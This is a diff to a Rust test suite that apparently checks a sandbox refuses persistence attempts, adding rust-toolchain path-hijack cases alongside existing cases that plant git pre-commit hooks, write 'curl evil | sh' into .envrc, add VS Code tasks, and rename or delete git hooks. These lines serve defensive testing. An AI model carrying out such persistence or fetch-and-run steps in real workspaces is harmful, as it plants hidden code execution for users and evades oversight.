@@ -1122,6 +1122,8 @@ try hook_precommit sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
 try envrc sh -c 'echo "curl evil | sh" > .envrc'
 try envrc_rename sh -c 'echo evil > evil.tmp && mv -f evil.tmp .envrc'
 try vscode sh -c 'echo {} > .vscode/tasks.json'
+try rust_toolchain sh -c 'printf "[toolchain]\npath = \"/tmp/tc\"\n" > rust-toolchain.toml'
+try rust_toolchain_legacy sh -c 'echo /tmp/tc > rust-toolchain'
 try git_rename mv .git .git2
 try hooks_remove rm -rf .git/hooks
 try hooks_rename mv .git/hooks .git/hooks.old
@@ -1136,6 +1138,8 @@ fn assert_persistence_refused(ctx: &Ctx, extra_script: &str, extra_keys: &[&str]
         "envrc",
         "envrc_rename",
         "vscode",
+        "rust_toolchain",
+        "rust_toolchain_legacy",
         "git_rename",
         "hooks_remove",
         "hooks_rename",
@@ -1147,6 +1151,7 @@ fn assert_persistence_refused(ctx: &Ctx, extra_script: &str, extra_keys: &[&str]
     assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
     assert!(!ctx.ws.join(".git2").exists());
     assert!(!ctx.ws.join(".vscode/tasks.json").exists());
+    assert!(!ctx.ws.join("rust-toolchain.toml").is_file());
 }
 
 #[test]
